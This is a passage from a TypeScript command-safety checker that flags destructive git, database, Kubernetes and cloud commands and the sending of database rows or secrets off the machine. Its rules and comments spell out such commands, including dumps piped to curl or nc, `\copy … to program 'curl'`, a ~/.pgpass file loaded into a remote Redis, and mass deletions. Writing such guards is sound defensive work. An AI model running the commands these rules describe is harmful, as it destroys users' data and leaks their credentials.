      else if (rest[0] === 'drop' && (inv.repeats || walk.out.filter((o) => o.argv[0] === 'git' && o.argv.includes('stash') && o.argv.includes('drop')).length > 1)) {
        block(walk, 'dangerous', `git stash drop ${inv.repeats ? 'in a loop drops every stash' : 'repeated drops several stashes at once'}, as git stash clear would`, 'drop the one stash you mean: git stash drop stash@{N}');
      } else if (rest[0] === 'drop' && walk.out.some((o) => o.argv[0] === 'git' && o.argv.includes('gc') && o.argv.some((a) => /^--prune=(now|all)$/.test(a)))) {
        block(walk, 'dangerous', 'git stash drop followed by git gc --prune=now: the dropped work is not even left as an unreachable commit to recover', 'leave gc to its defaults; drop stashes one at a time');
      } else if (rest[0] === 'drop') {
        warn(walk, 'suspicious', `git stash ${rest[0]} deletes stashed work`);
        critical(walk, `git stash ${rest[0]}`);
      }
      break;
    case 'branch': {
      const forceDelete = rest.some((a) => a === '-D' || /^-[a-zA-Z]*D/.test(a)) || (rest.some((a) => a === '--delete' || a === '-d' || /^-[a-zA-Z]*d/.test(a)) && rest.some((a) => a === '--force' || /^-[a-zA-Z]*f/.test(a)));
      const names = rest.filter((a) => !a.startsWith('-'));
      // git branch -m|-M|--move [OLD] NEW: NEW is now the branch OLD was (the current one when only NEW is named).
      if (rest.some((a) => /^(-[a-zA-Z]*[mM][a-zA-Z]*|--move)$/.test(a)) && names.length > 0) {
        const from = names.length >= 2 ? names[0] : gitCurrentBranch(walk) ?? 'HEAD';
        const origin = walk.branchNames.get(from) ?? from;
        const onto = names[names.length - 1];
        // -M (or -m -f) OTHER main: main is overwritten by OTHER and its own commits lose their branch.
        const force = rest.some((a) => /^-[a-zA-Z]*M/.test(a) || a === '--force' || /^-[a-zA-Z]*f/.test(a));
        if (force && names.length >= 2 && isProtected(onto) && from !== onto && !isProtected(origin)) {
          block(walk, 'dangerous', `git branch ${rest.join(' ')} overwrites the branch ${onto} with ${from}: the commits of ${onto} lose their branch`, 'merge or open a pull request instead; to rename, pick a new name');
        }
        walk.branchNames.set(onto, origin);
        if (isProtected(origin)) warn(walk, 'suspicious', `git branch -m renames the default branch ${origin} to ${names[names.length - 1]}`);
        break;
      }
      // git branch -f main X: main moved to another commit (its own commits lose their branch) unless X is its remote.
      if (rest.some((a) => a === '-f' || a === '--force') && !rest.some((a) => /^-[a-zA-Z]*[dDmMcC]$|^--(delete|move|copy)$/.test(a)) && names.length >= 2 && PROTECTED_BRANCHES.has(names[0]) && !/^(origin|upstream)\/|^refs\/remotes\/|^@\{u/.test(names[1])) {
        block(walk, 'dangerous', `git branch -f ${names[0]} ${names[1]} moves ${names[0]} to another commit: its own commits lose their branch`, 'make a new branch for the other commit instead');
        break;
      }
      // A branch given by a substitution or HEAD is the current one; a name renamed earlier on the line is what it was.
      // A substitution asking for the default branch (origin/HEAD, init.defaultBranch) is main; another is the current branch.
      const defaultAsked = inv.words.some((w) => w.subs.some((sub) => /origin\/HEAD|defaultBranch|symbolic-ref\s+(--short\s+)?refs\/remotes/.test(sub)));
      // $(git branch --merged | grep -v 'main\|master'): main is filtered out of the list.
      // $(git branch --list 'spike/*'): only branches matching a pattern that no default name matches.
      const listPattern = (sub: string) => /\bgit\s+branch\b[^|]*\s(?:--list|-l)\s+(['"]?)([^'"\s|]+)\1/.exec(sub)?.[2] ?? /\bgit\s+for-each-ref\b[^|]*\srefs\/heads\/([^\s|'"]+)/.exec(sub)?.[1]?.replace(/\/?$/, '/*');
      const mainFiltered = inv.words.some((w) => w.subs.some((sub) => /grep\s+-v.*\b(main|master)\b/.test(sub) || (listPattern(sub) !== undefined && ![...PROTECTED_BRANCHES].some((b) => globMatches(listPattern(sub)!, b)))));
      if (xargsBranches(inv)) names.push('main');
      const resolved = names.map((a) => (a.includes('$(…)') && mainFiltered ? 'feature' : a.includes('$(…)') && defaultAsked ? 'main' : a === 'HEAD' || a === '@' || a.includes('$(…)') ? gitCurrentBranch(walk) ?? a : walk.branchNames.get(a) ?? a));
      // Locally only the default names count (an old release/1.0 deleted here still lives on the remote).
      const protectedName = resolved.find((a) => PROTECTED_BRANCHES.has(a.replace(/^refs\/heads\//, '')));
      if (forceDelete && protectedName) block(walk, 'dangerous', `git branch -D ${protectedName} deletes the default branch and its unmerged commits`, 'switch to the branch you want and leave main alone; git branch -m renames');
      else if (rest.some((a) => a === '-d' || a === '--delete') && protectedName) warn(walk, 'suspicious', `deleting the branch ${protectedName} locally`);
      break;
    }
    case 'filter-branch':
    case 'filter-repo':
      // filter-repo --analyze only writes a report; a rewrite inside a clone the line just made leaves the project alone.
      if (has('--analyze')) break;
      // filter-repo --source A --target B reads A and writes B: the project only when one of them is it.
      const other = (o: string) => { const k = rest.indexOf(o); return k >= 0 && rest[k + 1] !== undefined && inv.cwd !== null && !isUnder(walk.env.project, resolveFrom(inv.cwd, rest[k + 1])) && !isUnder(resolveFrom(inv.cwd, rest[k + 1]), walk.env.project); };
      if (sub === 'filter-repo' && other('--source') && other('--target')) {
        warn(walk, 'suspicious', 'git filter-repo rewrites the history of another repository');
        break;
      }
      if (inv.cwd !== null && !isUnder(inv.cwd, walk.env.project) && walk.unpacked.some((d) => isUnder(inv.cwd!, d))) {
        warn(walk, 'suspicious', `git ${sub} rewrites the history of the clone in ${inv.cwd}`);
        break;
      }
      block(walk, 'dangerous', `git ${sub} rewrites the whole history of the repository (every commit id changes; collaborators' clones no longer match)`, 'ask the user first; for one file committed by mistake use git rm --cached FILE and a new commit');
      break;
    case 'reflog':
      // now, all, 0, "N seconds/minutes/hours ago", a date or a timestamp: the reflog goes at once.
      if (rest[0] === 'expire' && rest.some((a) => /^--expire(-unreachable)?=(now|all|0|never|@\d+|\d+[ .](seconds?|minutes?|hours?|sec|min)[ .]ago|\d{4}-\d{2}-\d{2}.*)$/i.test(a))) {
        block(walk, 'dangerous', 'git reflog expire --expire=now throws away the reflog, the record that lets lost commits be recovered', 'leave the reflog to expire on its own');
      } else if (rest[0] === 'delete') warn(walk, 'suspicious', 'git reflog delete removes recovery points');
      break;
    case 'gc':
      if (rest.some((a) => /^--prune=(now|all)/.test(a))) warn(walk, 'suspicious', 'git gc --prune=now deletes unreachable commits at once (no grace period to recover them)');
      break;
    case 'update-ref': {
      if (rest.includes('--stdin')) {
        // printf 'delete refs/heads/main\n' | git update-ref --stdin: each line of the input is an instruction.
        const g = inv.upstream[inv.upstream.length - 1];
        // git for-each-ref --format='delete %(refname)' refs/heads | git update-ref --stdin: one line per branch, main among them.
        const text = stdinText(inv) ?? (g && g.argv[0] === 'git' && /^(for-each-ref|branch)$/.test(g.argv[1] ?? '') ? generatorLines(walk, g).map((l) => l.split(ITEM).join('refs/heads/main')).join('\n') : '');
        const hit = [...text.matchAll(/(?:^|\n)\s*(delete|update|create|force)\s+(\S+)/g)].map((m) => m[2].replace(/^refs\/heads\//, '')).find((r) => isProtected(r) || r === 'HEAD');
        if (hit) block(walk, 'dangerous', `git update-ref --stdin deletes or moves ${hit} without any check`, 'git branch -d BRANCH (refuses to drop unmerged work)');
        break;
      }
      const del = rest.includes('-d') || rest.includes('--delete');
      const refs = rest.filter((a) => !a.startsWith('-'));
      const ref = refs[0] ?? '';
      const short = walk.branchNames.get(ref.replace(/^refs\/heads\//, '')) ?? ref.replace(/^refs\/heads\//, '');
      const zero = refs.slice(1).some((a) => /^0{7,40}$/.test(a));
      // update-ref refs/heads/main VALUE: main moved to any commit but its remote's (back to the root, to a rewritten tree).
      const moved = !del && !zero && isProtected(short) && refs.length >= 2 && !/^(refs\/remotes\/|origin\/|upstream\/|HEAD$|@\{u\}|@\{upstream\})/.test(refs[1]);
      if (moved) {
        block(walk, 'dangerous', `git update-ref ${ref} ${refs[1]} moves ${short} to another commit without any check: its own commits lose their branch`, 'use git reset on a feature branch, or git revert on main');
        break;
      }
      if ((del || zero) && ref === 'refs/stash') block(walk, 'dangerous', `git update-ref ${del ? '-d' : 'to zero'} refs/stash deletes every stash at once, as git stash clear does`, 'drop the one stash you mean: git stash drop stash@{N}');
      else if ((del || zero) && (ref === 'HEAD' || isProtected(short) || ref === '' || inv.viaXargs || /\$/.test(ref))) {
        block(walk, 'dangerous', `git update-ref ${del ? '-d' : 'to zero'} ${ref || '(refs from the input)'} deletes a branch ref without any safety check`, 'git branch -d BRANCH (refuses to drop unmerged work)');
      } else if (del) warn(walk, 'suspicious', `git update-ref -d ${ref} deletes a ref without any safety check`, 'git branch -d BRANCH');
      break;
    }
    case 'symbolic-ref':
      if (rest.includes('-d') || rest.includes('--delete')) warn(walk, 'suspicious', 'git symbolic-ref -d HEAD leaves the repository without a current branch');
      break;
  }
}

/** The text of a git alias: from -c alias.NAME=... on this command, or git config alias.NAME ... earlier on the line. */
function gitAlias(walk: Walk, globals: string[], sub: string | undefined): string | null {
  if (!sub) return null;
  const key = `alias.${sub}`.toLowerCase();
  for (let k = 0; k < globals.length; k++) {
    if (globals[k - 1] === '-c' && globals[k].toLowerCase().startsWith(`${key}=`)) return globals[k].slice(key.length + 1);
  }
  for (const c of walk.gitConfig) if (c.toLowerCase().startsWith(`${key} `)) return c.slice(key.length + 1);
  return null;
}

/** Deleting what lives outside this machine: a cloud account's resources, a database, a repository on GitHub. */
/** The language and code an app's console runs: rails runner (Rails.root is the project), manage.py shell, mongosh --eval. */
function hostedCode(inv: Invocation): [string, string] | null {
  // blender --python-expr CODE, UnrealEditor-Cmd -ExecutePythonScript=CODE, blender -P /dev/stdin <<EOF: Python the application runs.
  const dcc = assetMayMatch(inv.argv[0] ?? '') ? hostedPython(inv.argv) : null;
  if (dcc) {
    const code = dcc.code ?? (dcc.readsStdin ? stdinText(inv) : null);
    return code ? ['python3', code] : null;
  }
  if (!/^(rails|bundle|mongosh|mongo|python[\d.]*)$/.test(inv.argv[0] ?? '')) return null;
  const a = inv.argv[0] === 'bundle' && inv.argv[1] === 'exec' ? inv.argv.slice(2) : inv.argv;
  if (a[0] === 'rails' && a[1] === 'runner' && a[2] && !a[2].startsWith('-') && !/\.rb$/.test(a[2])) return ['ruby', a[2].replace(/\bRails\.root\b/g, 'Dir.pwd')];
  if (/^python[\d.]*$/.test(a[0] ?? '') && /(^|\/)manage\.py$/.test(a[1] ?? '') && a[2] === 'shell') {
    const c = a.findIndex((x) => x === '-c' || x === '--command');
    const code = c > 0 ? a[c + 1] : stdinText(inv);
    return code ? ['python3', code] : null;
  }
  const e = a.indexOf('--eval');
  if (/^(mongosh|mongo)$/.test(a[0] ?? '') && e > 0 && a[e + 1] && /\brequire\s*\(/.test(a[e + 1])) return ['node', a[e + 1]];
  return null;
}

const client0 = (name: string) => /^(psql|mysql|mariadb|sqlite3|sqlcmd|cockroach|redis-cli|mongo|mongosh|clickhouse-client|usql|pgcli|mycli)$/.test(name);

/** A database client's argv with the statements it reads on stdin (a here-document, echo 'DROP …' |) appended as one word. */
function withStdinSql(inv: Invocation): string[] {
  const fed = client0(inv.argv[0] ?? '') ? stdinText(inv) : null;
  return fed ? [...inv.argv, fed] : inv.argv;
}

/** Dumps of a database's rows (not its schema alone). */
const DUMPS = (a: string[]) => (a[0] === 'wp' && a.includes('db') && a.includes('export')) || /^(pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport)$/.test(a[0] ?? '') && !a.some((x) => /^(-s|--schema-only|--no-data|-d|--globals-only|-g|--roles-only)$/.test(x) && !(a[0] === 'pg_dump' && x === '-d'));

function checkServices(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  // npx sequelize-cli db:drop, bunx prisma …: the package's own command.
  if (/^(npx|bunx|pnpx)$/.test(name) && args[0] && !args[0].startsWith('-')) return checkServices(walk, { ...inv, argv: [args[0].replace(/-cli$/, ''), ...args.slice(1)], words: inv.words.slice(1) });
  const say = (what: string, instead?: string) => block(walk, 'dangerous', `${name} ${args.slice(0, 4).join(' ')}: ${what}`, instead ?? 'let the user run it after checking what it removes');
  const sql = client0(name) ? withStdinSql(inv).slice(1).join(' ') : args.join(' ');
  const client = /^(psql|mysql|mariadb|sqlite3|sqlcmd|cockroach|redis-cli|mongo|mongosh|curl|wget|nc|ncat|netcat|socat|telnet|http|https|xh)$/.test(name);
  const remoteHost = client && args.some((a, k) => (/^(-h|--host)$/.test(args[k - 1] ?? '') && !/^(localhost|127\.0\.0\.1|::1|db|postgres|mysql|redis)$/.test(a)) || (/^(-u|--url|--uri)$/.test(args[k - 1] ?? '') && /^[$]|:\/\/(?!([^@/]*@)?(localhost|127\.0\.0\.1|\[::1\]|redis|db)[:/]|([^@/]*@)?(localhost|127\.0\.0\.1|redis|db)$)/.test(a))) || args.some((a) => /^--host=(?!localhost|127\.)/.test(a));
  // A test stack's own store on this machine: a database named as throwaway (shop_e2e, app_test) at a URL on localhost,
  // a URL held in a variable named for tests ($TEST_DATABASE_URL, $E2E_REDIS_URL), or a local server on a port other than
  // the service's default (test stacks publish 5433, 6380, 27018 beside the real ones). Resetting it is the suite's routine.
  const testStore = !remoteHost && (args.some((a) => /^\$\{?(\w+_)?(TEST|TESTS|E2E|CI|QA)_\w*\}?$/.test(a)) || args.some((a) => /^(postgres(ql)?|mysql|mongodb|redis):\/\/([^@/]*@)?(localhost|127\.0\.0\.1|\[::1\])(:\d+)?\/\w*(test|tests|e2e|ci|tmp|scratch|qa)\w*$/i.test(a)) || (args.every((a, k) => !/^(-h|--host|-u|--url|--uri)$/.test(args[k - 1] ?? '') || /^(localhost|127\.0\.0\.1)$/.test(a)) && args.some((a, k) => /^(-p|--port)$/.test(args[k - 1] ?? '') && /^\d+$/.test(a) && !/^(5432|3306|6379|27017|26257|1433)$/.test(a))));
  // pg_dump -h prod … | curl -T -, mysqldump … | gzip | nc HOST: a database's rows sent to the network.
  if (/^(curl|wget|nc|ncat|netcat|socat|telnet|http|https|xh)$/.test(name) && inv.upstream.some((u) => DUMPS(u.argv))) say(`sends a database dump (${inv.upstream.find((u) => DUMPS(u.argv))!.argv[0]}): the rows of its tables leave the machine`, 'keep dumps on the machine or in the team\'s backup store');
  // psql -c "\copy users to program 'curl -T - URL'": the table's rows given to a program that sends them.
  const program = client ? /\bto\s+program\s+'([^']+)'/i.exec(sql)?.[1] : undefined;
  if (program && /^\s*(curl|wget|nc|ncat|netcat|socat|ssh|scp|aws|gsutil)\b/.test(program)) say(`sends a table's rows to \`${program.slice(0, 50)}\``);
  // redis-cli -h HOST -x SET k < ~/.pgpass, LOAD DATA LOCAL INFILE '~/.my.cnf', \copy t from '~/.pgpass': a local secret loaded into another host's database.
  const loaded = !remoteHost ? [] : [...inv.redirects.filter((r) => r.op === '<' && !r.target.dynamic).map((r) => r.target.text), ...[...sql.matchAll(/(?:\blocal\s+infile|\\copy\s+[\w.]+\s+from)\s+'([^']+)'/gi)].map((m) => m[1].replace(/^\$\{?HOME\}?(?=\/)/, walk.env.home))];
  const secretLoaded = remoteHost && inv.cwd !== null ? loaded.map((f) => resolveFrom(inv.cwd!, f.replace(/^~(?=\/)/, walk.env.home))).find((f) => isSecret(walk, f)) : undefined;
  if (secretLoaded) say(`loads the secret ${secretLoaded} into a database on another host: secrets must not leave this machine`);
  // kubectl get ns -o name | xargs kubectl delete, helm ls -q | xargs helm uninstall, docker volume ls -q | xargs docker volume rm:
  // everything a listing of the same tool prints, deleted. A grep keeping some names narrows it; grep -v, dropping a few, does not.
  if (inv.viaXargs && /^(kubectl|oc|helm|docker|podman)$/.test(name) && args.some((a) => /^(delete|uninstall|del|un|rm)$/.test(a)) && (name === 'kubectl' || name === 'oc' || name === 'helm' || args[0] === 'volume')) {
    const lister = inv.upstream.find((u) => u.argv[0] === name && u.argv.some((a) => /^(get|ls|list)$/.test(a)) && !u.argv.some((a) => /^-[a-zA-Z]*[lf]$|^--(selector|filter|field-selector)(=|$)/.test(a)));
    const narrowed = inv.upstream.some((u) => /^(grep|egrep|rg|awk|sed|head)$/.test(u.argv[0]) && !(u.argv[0] !== 'awk' && u.argv[0] !== 'sed' && u.argv[0] !== 'head' && u.argv.some((a) => /^-[a-zA-Z]*v/.test(a))));
    if (lister && !narrowed) say(`deletes everything \`${lister.argv.slice(0, 4).join(' ')}\` lists`, 'delete the few resources meant, by name');
  }
  // --dry-run, --dryrun, --what-if: the tool only shows what it would do (kubectl --dry-run=none is the real thing).
  if (args.some((a) => /^--(dry-?run(=(client|server|true))?|what-?if|plan)$/i.test(a))) return;
  switch (name) {
    case 'terragrunt':
      if (args.includes('destroy') || (args.includes('apply') && args.includes('-destroy'))) say(`destroys every resource of ${args.includes('run-all') || args.includes('--all') ? 'every module under this directory' : 'the configuration'}`);
      break;
    case 'terraform':
    case 'tofu':
    case 'pulumi':
      // terraform state rm $(terraform state list): the state forgets every resource.
      if (args[0] === 'state' && args[1] === 'rm' && (inv.words.some((w) => w.subs.some((c) => /state\s+list\s*$/.test(c))) || (inv.viaXargs && inv.upstream.some((u) => /\bstate list$/.test(u.argv.join(' ')))))) say('removes every resource from the state: they are orphaned, unmanaged');
      // -target=ADDR limits it to the resources named (a sandbox module): a warning.
      if ((args.includes('destroy') || (args.includes('apply') && args.includes('-destroy'))) && args.some((a) => /^--?target(=|$)/.test(a))) warn(walk, 'suspicious', `${name} destroy of the targeted resources (${args.filter((a) => /^--?target/.test(a)).join(' ')})`);
      else if (args.includes('destroy') || (args.includes('apply') && args.includes('-destroy'))) say('destroys every resource of the configuration');
      break;
    case 'kubectl': {
      // The words that are not options nor their values (kubectl --context prod delete all --all).
      const verbs = args.filter((a, k) => !a.startsWith('-') && !/^(-n|--namespace|--context|--kubeconfig|--cluster|--user|-l|--selector|-o|--output|-f|--filename|-s|--server)$/.test(args[k - 1] ?? ''));
      // (On a local cluster, kind-dev, minikube, docker-desktop, k3d-…, a namespace is a throwaway sandbox.)
      const local = inv.argv.some((a, k) => /^(kind-|k3d-|minikube$|docker-desktop$|docker-for-desktop$|rancher-desktop$|colima$|orbstack$)/.test(a) && /^(--context|--cluster)$/.test(inv.argv[k - 1] ?? '')) || inv.argv.some((a) => /^--(context|cluster)=(kind-|k3d-|minikube$|docker-desktop$|rancher-desktop$|colima$|orbstack$)/.test(a));
      if (verbs[0] === 'delete' && local && !args.some((a) => a === '--all' || a === '-A' || a === '--all-namespaces') && /^(ns|namespaces?)$/.test(verbs[1] ?? '')) warn(walk, 'suspicious', `kubectl delete namespace on a local cluster (${verbs.slice(2).join(' ')})`);
      else if (verbs[0] === 'delete' && (args.some((a) => a === '--all' || a === '-A' || a === '--all-namespaces') || /^(ns|namespaces?|nodes?|pv|persistentvolumes?|crd|customresourcedefinitions?)$/.test(verbs[1] ?? ''))) say('deletes whole namespaces, nodes or every resource of a kind');
      // On production (--context prod-eu, -n production): every resource a manifest tree defines, or every kind (all).
      else if (verbs[0] === 'delete' && inv.argv.some((a, k) => /(^|[^a-z])(prod|production|prd)([^a-z]|$)/i.test(a) && /^(-n|--namespace|--context|--cluster)$|^--(namespace|context|cluster)=/.test(k > 0 && !a.startsWith('--') ? inv.argv[k - 1] : a)) && (verbs[1] === 'all' || args.some((a) => /^(-f|--filename|-k|--kustomize)$|^--(filename|kustomize)=/.test(a)))) say('deletes what the manifests define, or every kind, in production');
      break;
    }
    case 'mysqladmin':
      if (args.some((a) => /^drop$/i.test(a)) && !args.some((a, k) => /^drop$/i.test(args[k - 1] ?? '') && /(^|_|-)(test|tests|dev|ci|tmp|scratch)($|_|-|\d)/i.test(a))) say('drops a whole database');
      break;
    case 'az':
      if (/^(group|storage|sql|cosmosdb|keyvault|postgres|mysql|redis|backup)$/.test(args[0] ?? '') && args.includes('delete')) say('deletes cloud resources with their data');
      break;
    case 'aws':
      // s3://bucket/tmp/run-41/: a prefix two levels down is a scoped clean-up (a warning); the bucket or a top-level prefix is its data.
      if (args[0] === 's3' && args[1] === 'rm' && args.includes('--recursive') && args.some((a) => /^s3:\/\/[^/]+\/[^/]+\/[^/]+/.test(a) && !/[$*]/.test(a))) warn(walk, 'suspicious', `aws s3 rm --recursive deletes everything under ${args.find((a) => a.startsWith('s3://'))}`);
      else if (args[0] === 's3' && ((args[1] === 'rm' && args.includes('--recursive')) || (args[1] === 'rb' && args.includes('--force')))) say('deletes a bucket or everything in it');
      // s3 sync of an empty directory with --delete: every object of the bucket removed.
      else if (args[0] === 's3' && args[1] === 'sync' && args.includes('--delete') && (/^(\/tmp\/)?empty\/?$/.test(inv.words[3]?.text ?? '') || /^\s*mktemp\b/.test(inv.words[3]?.subs[0] ?? ''))) say('empties the bucket (an empty directory synced with --delete)');
      // A console password set on the line, or the account's password rules dropped: a way into the account.
      else if (args[0] === 'iam' && (/^delete-account-password-policy$/.test(args[1] ?? '') || (/^(update|create)-login-profile$/.test(args[1] ?? '') && args.some((a) => /^--password(=|$)/.test(a))))) say('changes who can log into the cloud account');
      else if (/^(delete-snapshot|delete-db-snapshot|delete-db-cluster-snapshot|delete-recovery-point|delete-backup-vault|delete-backup-plan|schedule-key-deletion|delete-volume|deregister-image|delete-table-replica|delete-vault|delete-archive)$/.test(args[1] ?? '')) say('deletes backups, snapshots or the keys that decrypt the data: nothing brings them back');
      else if (/^(delete-db-instance|delete-db-cluster|delete-table|delete-stack|terminate-instances|delete-bucket|delete-cluster|delete-repository|delete-function|delete-vpc|delete-user|delete-role|delete-secret|delete-hosted-zone|delete-file-system|delete-queue|delete-topic|delete-domain|delete-distribution|delete-log-group|delete-service|delete-account|close-account|delete-organization)$/.test(args[1] ?? '')) say('deletes cloud resources with their data');
      break;
    case 'gsutil': {
      // gs://b/a/b or a throwaway prefix (gs://acme-tmp/$USER): a scoped clean-up, as for aws s3 rm; the bucket or a top-level prefix is its data.
      const urls = args.filter((a) => a.startsWith('gs://'));
      const scoped = urls.length > 0 && urls.every((u) => { const depth = u.slice(5).split('/').filter((s) => s !== '' && !/^\*+$|^\$/.test(s)).length - 1; return depth >= 2 || (depth >= 1 && storeScope([u]) === 'throwaway'); });
      if (args.includes('rm') && args.some((a) => /^-[a-zA-Z]*r/.test(a)) && scoped) warn(walk, 'suspicious', `gsutil rm -r deletes everything under ${urls.join(' ')}`);
      else if (args.includes('rm') && args.some((a) => /^-[a-zA-Z]*r/.test(a)) || args.includes('rb')) say('deletes a bucket or everything in it');
      break;
    }
    case 'gcloud':
      if (args.includes('delete') && args.some((a) => /^(projects|instances|clusters|sql)$/.test(a))) say('deletes cloud resources with their data');
      break;
    case 'gh':
      if (args[0] === 'repo' && args[1] === 'edit' && args.some((a, k) => (a === '--visibility' && args[k + 1] === 'public') || a === '--visibility=public')) say('makes the repository public: its code and history, secrets committed in it included, go to everyone');
      // (Repositories, protected branches and release tags deleted through gh are git-rules.ts hostingFindings.)
      else if (args[0] === 'api' && args.some((a, k) => (/^(-X|--method)$/.test(args[k - 1] ?? '') && /^(patch|post|put)$/i.test(a)) || /^(-X(PATCH|PUT|POST)|--method=(PATCH|PUT|POST))$/i.test(a)) && args.some((a) => /^force=true$/.test(a))) {
        // PATCH …/git/refs/heads/main -F force=true: a force-push done through the API.
        const ref = args.map((a) => /\/git\/refs\/heads\/(.+)$/.exec(a)).find((m) => m !== null);
        if (ref && isProtected(ref[1])) say(`force-moves the branch ${ref[1]} on GitHub through the API: a force-push over it`);
      }
      break;
    case 'dropdb':
      // A throwaway database on this machine (app_test, app_scratch on localhost) is everyday work.
      if (!testStore && !(operands(inv.words, new Set(['-h', '--host', '-p', '--port', '-U', '--username'])).every((w) => /(^|_|-)(test|tests|dev|ci|tmp|scratch|e2e|qa)($|_|-|\d)/i.test(w.text)) && args.every((a, k) => !/^(-h|--host)$/.test(args[k - 1] ?? '') || /^(localhost|127\.0\.0\.1)$/.test(a)))) say('drops a whole database');
      break;
    case 'rails':
    case 'rake':
    case 'artisan':
    case 'prisma':
    case 'sequelize':
    case 'knex': {
      // db:drop/reset/schema:load, migrate:fresh/reset, prisma migrate reset, db:wipe: with production named or the check off.
      const task = args.find((a) => /^(db:(drop|reset|schema:load|truncate_all|purge|wipe|seed:undo:all)(:\w+)?|migrate:(fresh|reset|refresh|rollback)|reset)$/.test(a));
      const prod = (inv.assigned ?? []).concat(args).some((a) => /^(RAILS_ENV|RACK_ENV|NODE_ENV|APP_ENV|ENVIRONMENT)=prod(uction)?$|^DISABLE_DATABASE_ENVIRONMENT_CHECK=1$|^--env(=|\s)prod/i.test(a)) || args.some((a, k) => args[k - 1] === '--env' && /^prod/i.test(a)) || (name === 'artisan' && args.includes('--force')) || (inv.assigned ?? []).some((a) => /^DATABASE_URL=.*prod/i.test(a));
      if (task && prod) say(`wipes the production database (${task})`);
      break;
    }
    case 'psql':
    case 'mysql':
    case 'mariadb':
    case 'sqlcmd':
    case 'cockroach':
      // A throwaway database on this machine (app_test, dev, localhost): resetting it is everyday work.
      if (!testStore && /\bdrop\s+(database|schema)\b/i.test(sql) && !/\bdrop\s+database\s+(if\s+exists\s+)?["'`]?\w*(test|dev|ci|tmp|scratch)\w*["'`]?\s*(;|$)/i.test(sql) && !(args.some((a) => /^(postgres(ql)?|mysql):\/\/[^@/]*@?(localhost|127\.0\.0\.1|\[::1\])(:\d+)?\/\w*(test|dev|ci|tmp|scratch)\w*$/i.test(a)) || args.some((a, k) => /^(-d|--dbname|-D|--database)$/.test(args[k - 1] ?? '') && /(^|_|-)(test|tests|dev|ci|tmp|scratch)($|_|-|\d)/i.test(a) && !args.some((h, j) => /^(-h|--host)$/.test(args[j - 1] ?? '') && !/^(localhost|127\.0\.0\.1)$/.test(h))))) say('drops a whole database');
      break;
    case 'redis-cli':
      if (!testStore && /(^|\s)flushall(\s|$)/i.test(sql)) say('deletes every key of every Redis database');
      break;
    case 'mongo':
    case 'mongosh':
      // A throwaway database (app_test, dev) on this machine is reset every day, as with dropdb.
      if (!testStore && /dropDatabase\(|getCollectionNames\(\)[\s\S]*\.drop\(\)/.test(sql) && (remoteHost || !/getSiblingDB\(\s*['"]\w*(test|dev|ci|tmp|scratch)\w*['"]\s*\)\.dropDatabase/.test(sql))) say('drops a whole database');
      break;
    case 'etcdctl':
      if (args[0] === 'del' && args.includes('--prefix') && args.some((a) => a === '' || a === '/' || a === '""')) say('deletes every key of the cluster store');
      break;
  }
  // redis-cli --scan | xargs redis-cli del: every key the scan lists (no --pattern narrows it).
  if (name === 'redis-cli' && inv.viaXargs && /^(del|unlink)$/i.test(operands(inv.words, new Set(['-h', '-p', '-a', '-n', '-u', '--user', '--pass', '-s'])).find((w) => !/^\d+$/.test(w.text))?.text ?? '') && inv.upstream.some((u) => u.argv[0] === 'redis-cli' && u.argv.includes('--scan') && !u.argv.some((a, k) => (a === '--pattern' || a === '--match') && !/^\*?$/.test(u.argv[k + 1] ?? '')))) say('deletes every key of the Redis database');
  // Destructive statements and resets against a production database (a host or name saying prod, --linked, production settings).
  const prodTarget = [...args, ...(inv.assigned ?? [])].some((a) => /prod/i.test(a)) || args.includes('--linked') || inv.prod;
  // pg_restore --clean -h prod, mysql -h prod DB < dump.sql, pg_dump dev | pg_restore -h prod: the production tables replaced by a dump.
  const restores = (name === 'pg_restore' && args.some((a) => /^(-c|--clean)$/.test(a))) || (/^(psql|mysql|mariadb)$/.test(name) && (inv.redirects.some((r) => r.op === '<' && /\.(sql|dump)(\.gz)?$/.test(r.target.text)) || inv.upstream.some((u) => DUMPS(u.argv) || (/^(cat|zcat|gunzip)$/.test(u.argv[0]) && u.argv.some((a) => /\.(sql|dump)(\.gz)?$/.test(a))))));
  const targetProd = restores && (inv.prod || args.some((a, k) => /^(-h|--host|-d|--dbname|-D|--database)$/.test(args[k - 1] ?? '') && /prod/i.test(a)) || (/^(mysql|mariadb)$/.test(name) && operands(inv.words, new Set(['-h', '-u', '-p', '-P', '-D', '--host', '--user', '--port'])).some((w) => /prod/i.test(w.text))));
  if (targetProd) say('loads a dump into the production database: its tables are replaced');
  // UPDATE t SET … with no WHERE on production: every row rewritten.
  if (/^(psql|mysql|mariadb|sqlcmd|cockroach)$/.test(name) && prodTarget && /\bupdate\s+[\w."`]+\s+set\b(?![\s\S]*\bwhere\b)/i.test(sql)) say('rewrites every row of a production table (UPDATE with no WHERE)');
  const wipes = (/^(psql|mysql|mariadb|sqlite3|sqlcmd|cockroach)$/.test(name) && /\b(truncate\s+(table\s+)?(only\s+)?[\w."`]|drop\s+table|delete\s+from\s+\w+\s*(;|"|'|$))/i.test(sql)) ||
    (/^(prisma|npx)$/.test(name) && /\bmigrate\s+reset\b|\bdb\s+push\b.*--(accept-data-loss|force-reset)/.test(sql)) ||
    (/^(python[\d.]*|django-admin)$/.test(name) && /\b(flush|reset_db|sqlflush)\b/.test(sql)) ||
    (name === 'alembic' && /\bdowngrade\s+base\b/.test(sql)) ||
    (/^(knex|npx)$/.test(name) && /migrate:rollback\b.*--all|migrate:(reset|fresh)/.test(sql)) ||
    (name === 'supabase' && /\bdb\s+reset\b/.test(sql)) ||
    (/^(kubectl|oc)$/.test(name) && args[0] === 'delete' && /^(pvc|pv|persistentvolumeclaims?|namespace|ns)$/.test(args[1] ?? '')) ||
    (name === 'helm' && /^(uninstall|delete)$/.test(args[0] ?? '') && args.includes('--no-hooks'));
  if (wipes && prodTarget) say('wipes production data');
}

// ---------------------------------------------------------------------------
// Secrets sent away

/** Environment variables that hold well-known credentials: never sent except as the credential they are. */
